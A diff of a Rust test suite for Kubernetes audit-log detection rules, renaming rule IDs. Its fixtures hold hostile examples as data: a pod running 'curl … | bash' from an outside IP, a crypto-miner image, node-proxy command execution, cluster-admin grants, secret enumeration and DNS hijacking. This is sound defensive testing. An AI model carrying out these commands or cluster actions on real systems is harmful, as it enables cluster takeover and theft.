@@ -86,7 +86,7 @@ fn cases() -> Vec<Case> {
     let privileged = |p: &mut Value| p["spec"]["containers"][0]["securityContext"] = json!({"privileged": true});
     vec![
         Case {
-            id: "PAL-K8S-001",
+            id: "PAL-KA-001",
             pos: vec![user("create", "pods").ns("prod").name("api-0").sub("exec").query("command=sh&container=api&stdin=true&tty=true").code(101).build()],
             neg: vec![
                 user("create", "pods").ns("prod").name("api-0").sub("exec").code(403).build(),
@@ -95,12 +95,12 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-002",
+            id: "PAL-KA-002",
             pos: vec![user("create", "pods").ns("prod").name("api-0").sub("attach").code(101).build()],
             neg: vec![user("create", "pods").ns("prod").name("api-0").sub("attach").code(403).build()],
         },
         Case {
-            id: "PAL-K8S-003",
+            id: "PAL-KA-003",
             pos: vec![user("patch", "pods")
                 .ns("prod")
                 .name("api-0")
@@ -110,7 +110,7 @@ fn cases() -> Vec<Case> {
             neg: vec![user("patch", "pods").ns("prod").name("api-0").sub("ephemeralcontainers").code(403).build()],
         },
         Case {
-            id: "PAL-K8S-004",
+            id: "PAL-KA-004",
             pos: vec![user("create", "nodes").name("node-2").sub("proxy").uri("/api/v1/nodes/node-2/proxy/run/prod/api-0/api?cmd=id").build()],
             neg: vec![
                 B::new("get", "nodes").sa("monitoring", "prometheus").ip("10.244.3.17").name("node-2").sub("proxy").uri("/api/v1/nodes/node-2/proxy/metrics").at(T0).build(),
@@ -118,7 +118,7 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-005",
+            id: "PAL-KA-005",
             pos: vec![create_pod(user("create", "pods"), plain_pod("prod", "worker", "xmrig/xmrig:latest"))],
             neg: vec![
                 create_pod(user("create", "pods"), plain_pod("prod", "worker", "ghcr.io/corp/worker:1.0")),
@@ -126,7 +126,7 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-006",
+            id: "PAL-KA-006",
             pos: vec![create_pod(
                 user("create", "pods"),
                 pod_with("prod", "sync", |p| p["spec"]["containers"][0]["args"] = json!(["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"])),
@@ -134,7 +134,7 @@ fn cases() -> Vec<Case> {
             neg: vec![create_pod(user("create", "pods"), pod_with("prod", "sync", |p| p["spec"]["containers"][0]["args"] = json!(["--port", "3333"])))],
         },
         Case {
-            id: "PAL-K8S-007",
+            id: "PAL-KA-007",
             pos: vec![user("create", "deployments")
                 .ns("prod")
                 .name("tools")
@@ -150,7 +150,7 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-008",
+            id: "PAL-KA-008",
             pos: vec![create_pod(
                 user("create", "pods"),
                 pod_with("prod", "job", |p| p["spec"]["containers"][0]["command"] = json!(["sh", "-c", "curl -fsSL http://203.0.113.9/i.sh | bash"])),
@@ -161,7 +161,7 @@ fn cases() -> Vec<Case> {
             )],
         },
         Case {
-            id: "PAL-K8S-010",
+            id: "PAL-KA-010",
             pos: vec![create_pod(user("create", "pods"), pod_with("prod", "p", privileged))],
             neg: vec![
                 create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"privileged": false}))),
@@ -169,7 +169,7 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-011",
+            id: "PAL-KA-011",
             pos: vec![user("create", "daemonsets")
                 .ns("prod")
                 .name("agent")
@@ -190,12 +190,12 @@ fn cases() -> Vec<Case> {
                 .build()],
         },
         Case {
-            id: "PAL-K8S-012",
+            id: "PAL-KA-012",
             pos: vec![create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["hostPID"] = json!(true)))],
             neg: vec![create_pod(user("create", "pods"), pod_with("prod", "p", |p| p["spec"]["hostPID"] = json!(false)))],
         },
         Case {
-            id: "PAL-K8S-013",
+            id: "PAL-KA-013",
             pos: vec![create_pod(
                 user("create", "pods"),
                 pod_with("prod", "p", |p| p["spec"]["containers"][0]["securityContext"] = json!({"capabilities": {"add": ["SYS_ADMIN"]}})),
@@ -206,7 +206,7 @@ fn cases() -> Vec<Case> {
             )],
         },
         Case {
-            id: "PAL-K8S-014",
+            id: "PAL-KA-014",
             pos: vec![user("create", "deployments").ns("kube-system").name("metrics-helper").req(workload("Deployment", "kube-system", "metrics-helper", pod_spec(vec![container("m", "nginx")], "default"))).build()],
             neg: vec![
                 ctl("create", "replicasets", "deployment-controller").ns("kube-system").name("coredns-5dd5756b68").build(),
@@ -215,7 +215,7 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-015",
+            id: "PAL-KA-015",
             pos: vec![user("create", "cronjobs").ns("prod").name("backup").req(cronjob("prod", "backup", "0 3 * * *", pod_spec(vec![container("b", "alpine")], "default"))).build()],
             neg: vec![
                 ctl("update", "cronjobs", "cronjob-controller").ns("prod").name("backup").sub("status").build(),
@@ -223,12 +223,12 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-016",
+            id: "PAL-KA-016",
             pos: vec![user("create", "daemonsets").ns("prod").name("agent").req(workload("DaemonSet", "prod", "agent", pod_spec(vec![container("a", "nginx")], "default"))).build()],
             neg: vec![ctl("update", "daemonsets", "daemon-set-controller").ns("kube-system").name("kube-proxy").sub("status").build()],
         },
         Case {
-            id: "PAL-K8S-017",
+            id: "PAL-KA-017",
             pos: vec![ctl("create", "pods", "replicaset-controller")
                 .ns("prod")
                 .name("api-6d4-x")
@@ -249,7 +249,7 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-018",
+            id: "PAL-KA-018",
             pos: vec![kubelet("create", "pods")
                 .ns("kube-system")
                 .name("backdoor-node-1")
@@ -262,12 +262,12 @@ fn cases() -> Vec<Case> {
                 .build()],
         },
         Case {
-            id: "PAL-K8S-019",
+            id: "PAL-KA-019",
             pos: vec![user("patch", "namespaces").name("prod").req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}})).build()],
             neg: vec![user("patch", "namespaces").name("prod").req(json!({"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"restricted"}}})).build()],
         },
         Case {
-            id: "PAL-K8S-030",
+            id: "PAL-KA-030",
             pos: vec![user("create", "clusterrolebindings")
                 .name("mallory-admin")
                 .req(binding("ClusterRoleBinding", "", "mallory-admin", "ClusterRole", "cluster-admin", json!([{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"mallory@corp.example"}])))
@@ -279,7 +279,7 @@ fn cases() -> Vec<Case> {
                 .build()],
         },
         Case {
-            id: "PAL-K8S-031",
+            id: "PAL-KA-031",
             pos: vec![user("create", "clusterroles").name("ops").req(role("ClusterRole", "", "ops", json!([{"apiGroups":[""],"resources":["*"],"verbs":["get"]}]))).build()],
             neg: vec![
                 user("create", "clusterroles").name("ops").req(role("ClusterRole", "", "ops", json!([{"apiGroups":["apps"],"resources":["deployments"],"verbs":["get","list"]}]))).build(),
@@ -287,17 +287,17 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-032",
+            id: "PAL-KA-032",
             pos: vec![user("create", "roles").ns("prod").name("debug").req(role("Role", "prod", "debug", json!([{"apiGroups":[""],"resources":["pods/exec"],"verbs":["create"]}]))).build()],
             neg: vec![user("create", "roles").ns("prod").name("logs").req(role("Role", "prod", "logs", json!([{"apiGroups":[""],"resources":["pods/log","pods"],"verbs":["get"]}]))).build()],
         },
         Case {
-            id: "PAL-K8S-033",
+            id: "PAL-KA-033",
             pos: vec![user("create", "clusterroles").name("imp").req(role("ClusterRole", "", "imp", json!([{"apiGroups":[""],"resources":["users"],"verbs":["impersonate"]}]))).build()],
             neg: vec![user("create", "clusterroles").name("read").req(role("ClusterRole", "", "read", json!([{"apiGroups":[""],"resources":["users"],"verbs":["get"]}]))).build()],
         },
         Case {
-            id: "PAL-K8S-034",
+            id: "PAL-KA-034",
             pos: vec![user("create", "clusterrolebindings")
                 .name("anon")
                 .req(binding("ClusterRoleBinding", "", "anon", "ClusterRole", "view", json!([{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:unauthenticated"}])))
@@ -308,7 +308,7 @@ fn cases() -> Vec<Case> {
                 .build()],
         },
         Case {
-            id: "PAL-K8S-035",
+            id: "PAL-KA-035",
             pos: vec![B::new("list", "secrets").anonymous().ns("kube-system").ip("198.51.100.3").ua("curl/8.5.0").at(T0).build()],
             neg: vec![
                 B::new("get", "").anonymous().uri("/readyz").ip("10.0.0.2").ua("kube-probe/1.30").at(T0).build(),
@@ -317,12 +317,12 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-036",
+            id: "PAL-KA-036",
             pos: vec![user("create", "serviceaccounts").ns("kube-system").name("deployment-controller").sub("token").build()],
             neg: vec![kubelet("create", "serviceaccounts").ns("prod").name("api").sub("token").build()],
         },
         Case {
-            id: "PAL-K8S-037",
+            id: "PAL-KA-037",
             pos: vec![user("create", "secrets")
                 .ns("prod")
                 .name("ci-token")
@@ -331,17 +331,17 @@ fn cases() -> Vec<Case> {
             neg: vec![user("create", "secrets").ns("prod").name("tls").req(json!({"kind":"Secret","apiVersion":"v1","metadata":{"name":"tls"},"type":"kubernetes.io/tls"})).build()],
         },
         Case {
-            id: "PAL-K8S-038",
+            id: "PAL-KA-038",
             pos: vec![user("update", "certificatesigningrequests").name("csr-abc").sub("approval").build()],
             neg: vec![ctl("update", "certificatesigningrequests", "certificate-controller").name("csr-abc").sub("approval").build()],
         },
         Case {
-            id: "PAL-K8S-039",
+            id: "PAL-KA-039",
             pos: vec![user("create", "certificatesigningrequests").name("csr-x").req(json!({"kind":"CertificateSigningRequest","metadata":{"name":"csr-x"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client","usages":["client auth"]}})).build()],
             neg: vec![kubelet("create", "certificatesigningrequests").name("csr-y").req(json!({"kind":"CertificateSigningRequest","metadata":{"name":"csr-y"},"spec":{"signerName":"kubernetes.io/kube-apiserver-client-kubelet"}})).build()],
         },
         Case {
-            id: "PAL-K8S-040",
+            id: "PAL-KA-040",
             pos: vec![B::new("list", "pods").sa("shop", "web").ip("198.51.100.23").at(T0).build()],
             neg: vec![
                 app("list", "pods").build(),
@@ -350,7 +350,7 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-041",
+            id: "PAL-KA-041",
             pos: many(10, |i| app("get", "secrets").ns("shop").name(&format!("s{i}")).at(T0 + i as i64 * 2_000_000).build()),
             neg: [
                 many(10, |i| app("get", "secrets").ns("shop").name("web-db").at(T0 + i as i64 * 2_000_000).build()),
@@ -360,22 +360,22 @@ fn cases() -> Vec<Case> {
             .concat(),
         },
         Case {
-            id: "PAL-K8S-042",
+            id: "PAL-KA-042",
             pos: vec![user("list", "secrets").build()],
             neg: vec![user("list", "secrets").ns("prod").build(), ctl("list", "secrets", "namespace-controller").build()],
         },
         Case {
-            id: "PAL-K8S-043",
+            id: "PAL-KA-043",
             pos: vec![user("get", "secrets").ns("kube-system").name("x").impersonate("kubernetes-admin", &["system:masters"]).build()],
             neg: vec![user("get", "pods").ns("prod").impersonate("bob@corp.example", &["developers"]).build()],
         },
         Case {
-            id: "PAL-K8S-044",
+            id: "PAL-KA-044",
             pos: vec![app("create", "selfsubjectrulesreviews").req(json!({"kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}})).build()],
             neg: vec![user("create", "selfsubjectaccessreviews").req(json!({"kind":"SelfSubjectAccessReview","spec":{}})).build()],
         },
         Case {
-            id: "PAL-K8S-045",
+            id: "PAL-KA-045",
             pos: many(20, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(403).at(T0 + i as i64 * 1_000_000).build()),
             neg: [
                 many(19, |i| user("get", "secrets").ns("kube-system").name(&format!("s{i}")).code(403).at(T0 + i as i64 * 1_000_000).build()),
@@ -384,32 +384,32 @@ fn cases() -> Vec<Case> {
             .concat(),
         },
         Case {
-            id: "PAL-K8S-046",
+            id: "PAL-KA-046",
             pos: vec![user("create", "serviceaccounts").ns("kube-system").name("helper").build()],
             neg: vec![user("create", "serviceaccounts").ns("prod").name("helper").build(), ctl("create", "serviceaccounts", "serviceaccount-controller").ns("kube-system").name("default").build()],
         },
         Case {
-            id: "PAL-K8S-050",
+            id: "PAL-KA-050",
             pos: vec![user("create", "mutatingwebhookconfigurations").name("evil").build()],
             neg: vec![user("list", "mutatingwebhookconfigurations").build()],
         },
         Case {
-            id: "PAL-K8S-051",
+            id: "PAL-KA-051",
             pos: vec![user("delete", "validatingwebhookconfigurations").name("gatekeeper").build()],
             neg: vec![user("get", "validatingwebhookconfigurations").name("gatekeeper").build()],
         },
         Case {
-            id: "PAL-K8S-052",
+            id: "PAL-KA-052",
             pos: vec![user("update", "configmaps").ns("kube-system").name("coredns").req(json!({"kind":"ConfigMap","data":{"Corefile":".:53 { forward . 198.51.100.1 }"}})).build()],
             neg: vec![user("update", "configmaps").ns("prod").name("coredns").build(), user("get", "configmaps").ns("kube-system").name("coredns").build()],
         },
         Case {
-            id: "PAL-K8S-053",
+            id: "PAL-KA-053",
             pos: vec![user("deletecollection", "events").ns("prod").build()],
             neg: vec![kubelet("create", "events").ns("prod").name("x.1").build(), user("list", "events").ns("prod").build()],
         },
         Case {
-            id: "PAL-K8S-054",
+            id: "PAL-KA-054",
             pos: vec![user("create", "services").ns("kubeflow").name("ml-pipeline-ui").req(service("kubeflow", "ml-pipeline-ui", "LoadBalancer", json!({"app": "ml-pipeline-ui"}), 80)).build()],
             neg: vec![
                 user("create", "services").ns("kubeflow").name("ml-pipeline-ui").req(service("kubeflow", "ml-pipeline-ui", "ClusterIP", json!({"app": "ml-pipeline-ui"}), 80)).build(),
@@ -417,12 +417,12 @@ fn cases() -> Vec<Case> {
             ],
         },
         Case {
-            id: "PAL-K8S-055",
+            id: "PAL-KA-055",
             pos: vec![user("create", "services").ns("shop").name("np").req(service("shop", "np", "NodePort", json!({"app": "web"}), 80)).build()],
             neg: vec![user("create", "services").ns("shop").name("web").req(service("shop", "web", "ClusterIP", json!({"app": "web"}), 80)).build()],
         },
         Case {
-            id: "PAL-K8S-056",
+            id: "PAL-KA-056",
             pos: many(20, |i| user("delete", "deployments").ns("prod").name(&format!("d{i}")).at(T0 + i as i64 * 1_000_000).build()),
             neg: [
                 many(20, |i| ctl("delete", "pods", "namespace-controller").ns("old").name(&format!("p{i}")).at(T0 + i as i64 * 100_000).build()),
@@ -431,22 +431,22 @@ fn cases() -> Vec<Case> {
             .concat(),
         },
         Case {
-            id: "PAL-K8S-057",
+            id: "PAL-KA-057",
             pos: vec![user("list", "pods").ua("kubectl-who-can/v0.4.0").build()],
             neg: vec![user("list", "pods").ua("kubectl/v1.30.2 (linux/amd64) kubernetes/3968350").build()],
         },
         Case {
-            id: "PAL-K8S-058",
+            id: "PAL-KA-058",
             pos: vec![user("delete", "daemonsets").ns("falco").name("falco").build()],
             neg: vec![user("delete", "daemonsets").ns("prod").name("fluent-bit").build(), user("patch", "daemonsets").ns("falco").name("falco").req(json!({"spec":{"template":{"metadata":{"labels":{"v":"2"}}}}})).build()],
         },
         Case {
-            id: "PAL-K8S-059",
+            id: "PAL-KA-059",
             pos: vec![user("delete", "namespaces").name("prod").build()],
             neg: vec![ctl("delete", "namespaces", "namespace-controller").name("prod").build()],
         },
         Case {
-            id: "PAL-K8S-060",
+            id: "PAL-KA-060",
             pos: vec![user("delete", "nodes").name("node-3").build()],
             neg: vec![ctl("delete", "nodes", "node-controller").name("node-3").build()],
         },
@@ -552,7 +552,7 @@ lists:
     items: ["registry.attacker.example:5000"]
     append: true
 rules:
-  - id: PAL-K8S-001
+  - id: PAL-KA-001
     name: Exec into production pods
     description: Only production namespaces.
     severity: high
@@ -574,18 +574,19 @@ rules:
         values: [auditor@corp.example]
     output: "%ka.user.name read %ka.target.name"
     remediation: [Check why.]
-disable: [PAL-K8S-055]
+disable: [PAL-KA-055]
 "#;
     let diags = rs.add_file(user_file, "corp.yaml").unwrap_or_else(|e| panic!("{e}"));
     assert!(diags.iter().any(|d| d.level == DiagLevel::Note && d.message.contains("overrides")), "{diags:?}");
     let fires = |rs: &RuleSet, e: String| fired(rs, &[e]);
     // override: exec outside prod no longer alerts, and severity is high
     assert!(
-        !fires(&rs, user("create", "pods").ns("dev").name("x").sub("exec").code(101).build()).contains("PAL-K8S-001")
+        !fires(&rs, user("create", "pods").ns("dev").name("x").sub("exec").code(101).build()).contains("PAL-KA-001")
     );
-    assert!(fires(&rs, user("create", "pods").ns("prod-eu").name("x").sub("exec").code(101).build())
-        .contains("PAL-K8S-001"));
-    assert_eq!(rs.get("PAL-K8S-001").map(|r| r.severity.as_str()), Some("high"));
+    assert!(
+        fires(&rs, user("create", "pods").ns("prod-eu").name("x").sub("exec").code(101).build()).contains("PAL-KA-001")
+    );
+    assert_eq!(rs.get("PAL-KA-001").map(|r| r.severity.as_str()), Some("high"));
     // new rule with an exception
     assert!(fires(&rs, user("get", "configmaps").ns("payments").name("settings").build()).contains("CORP-001"));
     assert!(!fires(
@@ -608,7 +609,7 @@ disable: [PAL-K8S-055]
         &rs,
         user("create", "services").ns("shop").name("np").req(service("shop", "np", "NodePort", json!({}), 80)).build()
     )
-    .contains("PAL-K8S-055"));
+    .contains("PAL-KA-055"));
     // extended list: the registry is trusted now
     let tools = user("create", "deployments")
         .ns("prod")
@@ -620,12 +621,10 @@ disable: [PAL-K8S-055]
             pod_spec(vec![container("tools", "registry.attacker.example:5000/tools:1")], "default"),
         ))
         .build();
-    assert!(!fires(&rs, tools).contains("PAL-K8S-007"));
+    assert!(!fires(&rs, tools).contains("PAL-KA-007"));
     // configuration can replace a list too
     rs.set_list("cluster_cidrs", vec!["10.0.0.0/8".into()]);
-    assert!(
-        fires(&rs, B::new("list", "pods").sa("shop", "web").ip("172.20.3.4").at(T0).build()).contains("PAL-K8S-040")
-    );
+    assert!(fires(&rs, B::new("list", "pods").sa("shop", "web").ip("172.20.3.4").at(T0).build()).contains("PAL-KA-040"));
 }
 
 #[test]
